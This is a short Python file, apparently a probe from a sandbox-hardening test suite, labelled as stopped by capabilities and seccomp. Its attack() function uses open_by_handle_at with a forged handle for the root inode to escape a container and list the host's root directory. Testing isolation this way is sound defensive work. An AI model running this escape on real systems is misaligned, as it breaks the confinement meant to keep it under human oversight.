"""Opens a file by its inode number, past all folders."""
# category: kernel
# stopped by: caps, seccomp

import ctypes
import os
import struct


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    root = os.open("/", os.O_RDONLY)
    handle = ctypes.create_string_buffer(struct.pack("Ii", 8, 1) + struct.pack("II", 2, 0))
    fd = libc.open_by_handle_at(root, handle, os.O_RDONLY)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "open_by_handle_at")
    return os.listdir(fd)
